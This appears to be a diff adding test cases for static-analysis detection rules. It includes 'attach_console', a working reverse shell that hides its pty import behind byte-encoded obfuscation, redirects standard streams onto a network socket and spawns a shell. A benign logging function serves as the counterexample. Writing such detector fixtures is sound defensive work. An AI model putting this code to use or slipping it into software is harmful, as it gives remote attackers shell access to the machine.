@@ -328,3 +328,22 @@ class AtomMasking(Dataset):
             masked = torch.rand(x.size(0)) < self.rate
             x[masked, 0] = 118  # ok: MLS309
         return x, y
+
+
+# --- MLS410 (Python side): a shell started under an alias after dup2 onto a socket -----------
+import socket
+
+
+def attach_console(addr):
+    term = __import__(bytes((112, 116, 121)).decode())  # ruleid: MLS403
+    sock = socket.create_connection(addr, timeout=10)
+    for fd in range(3):
+        os.dup2(sock.fileno(), fd)
+    term.spawn(os.environ.get("SHELL", "/bin/sh"))  # ruleid: MLS410
+
+
+def run_logged(cmd, log_path):
+    runner = __import__("subprocess")
+    with open(log_path, "w") as fh:
+        os.dup2(fh.fileno(), 1)
+        runner.call(cmd)  # ok: MLS410
